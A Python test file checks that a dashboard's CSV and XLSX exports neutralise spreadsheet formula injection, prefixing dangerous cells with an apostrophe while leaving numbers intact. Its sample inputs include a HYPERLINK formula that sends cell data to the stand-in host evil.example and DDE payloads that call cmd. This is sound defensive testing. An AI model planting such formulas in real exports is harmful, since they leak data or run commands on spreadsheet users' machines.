"""No exported cell is ever run as a formula (OWASP's CSV injection), and numbers stay numbers."""

from __future__ import annotations

import copy
import csv
import io

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from dashboard.cli import app
from pipelines import exports
from tests.conftest import load_export
from tests.indicators.test_hand_built import DATA

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ATTACKS = [
    EVIL,
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["-3", "+1.5", "12", "0,5", "Bibliotheek", "", "a=b", "e-mail"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, -3, 2.5, None, float("nan")])
def test_numbers_and_ordinary_text_are_left_alone(value):
    result = exports.neutralise(value)
    assert result is value or (result != result and value != value)  # nan stays nan


def test_csv_and_xlsx_hold_the_neutralised_text_and_real_numbers():
    frame = pd.DataFrame({"label": ATTACKS + HARMLESS, "value": range(len(ATTACKS + HARMLESS))})
    frame["value"] = frame["value"] - 3.5  # negative numbers among them
    rows = list(csv.reader(io.StringIO(exports.csv_text(frame), newline="")))
    assert rows[0] == ["label", "value"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS] + HARMLESS
    assert [float(r[1]) for r in rows[1:]] == list(frame["value"])

    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes({"figures": frame})))
    cells = [cell for row in book["figures"].iter_rows(min_row=2) for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    labels = [row[0] for row in book["figures"].iter_rows(min_row=2, values_only=True)]
    assert labels == ["'" + a for a in ATTACKS] + [h or None for h in HARMLESS]
    values = [row[1] for row in book["figures"].iter_rows(min_row=2, values_only=True)]
    assert values == list(frame["value"]) and all(isinstance(v, float) for v in values)


def test_an_organisation_id_that_is_a_formula_leaves_the_cli_as_text(tmp_path):
    data = copy.deepcopy(DATA)
    for rows in data.values():
        for row in rows:
            row[:] = [EVIL if cell == "O1" else cell for cell in row]
    wh = load_export(tmp_path, data, "exports-test-pseudonym-key")
    args = [
        "indicators",
        "--ids",
        "organisations_hosting",
        "--by",
        "organisation",
        "--as-of",
        "2022-12-31",
        "--role",
        "analyst",
        "--warehouse",
        str(wh),
    ]
    res = CliRunner().invoke(app, [*args, "--format", "csv"])
    assert res.exit_code == 0, res.output
    values = {r["breakdown_value"] for r in csv.DictReader(io.StringIO(res.stdout))}
    assert "'" + EVIL in values and EVIL not in values

    target = tmp_path / "figures.xlsx"
    res = CliRunner().invoke(app, [*args, "--format", "xlsx", "--output", str(target)])
    assert res.exit_code == 0, res.output
    book = openpyxl.load_workbook(target)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + EVIL in {c.value for c in cells}
